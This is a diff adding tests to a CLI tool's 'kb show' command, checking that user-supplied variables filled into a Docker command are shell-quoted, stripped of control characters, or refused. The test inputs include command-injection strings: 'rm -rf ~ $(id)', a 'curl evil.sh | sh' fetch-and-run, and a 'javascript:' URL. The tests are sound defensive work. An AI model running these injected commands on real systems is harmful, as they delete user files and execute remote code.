@@ -60,6 +60,25 @@ describe('kb show', () => {
     expect(miss.stderr).toContain('did you mean CROSS_DOCKER_001?');
   });
 
+  it('fills a value as the page copies it: quoted for the shell, control characters removed', async () => {
+    const { code, stdout } = await show('CROSS_DOCKER_001', '--var', 'CONTAINER=web; rm -rf ~ $(id)\x1b[31m');
+    expect(code).toBe(0);
+    expect(stdout).toContain("docker logs 'web; rm -rf ~ $(id)'");
+    expect(stdout).not.toContain('docker logs web;');
+    expect(stdout).toContain('Put in quotes for the shell: CONTAINER');
+  });
+
+  it('refuses a value its variable rejects, printing nothing, and notes a name the entry does not use', async () => {
+    const bad = await show('CROSS_DOCKER_001', '--var', 'IMAGE_NAME=api; curl evil.sh | sh');
+    expect(bad.code).toBe(2);
+    expect(bad.stdout).toBe('');
+    expect(bad.stderr).toContain('--var IMAGE_NAME: ');
+    expect(bad.stderr).toContain('Expected a Docker image reference');
+    const typo = await show('CROSS_DOCKER_001', '--var', 'IMAGE_NAM=myorg/api');
+    expect(typo.code).toBe(0);
+    expect(typo.stderr).toBe('note: CROSS_DOCKER_001 has no variable IMAGE_NAM; did you mean IMAGE_NAME?\n');
+  });
+
   it('refuses a malformed --var and a non-http --url', async () => {
     expect((await show('CROSS_DOCKER_001', '--var', 'image=x')).code).toBe(2);
     expect((await show('CROSS_DOCKER_001', '--url', 'javascript:alert(1)')).code).toBe(2);
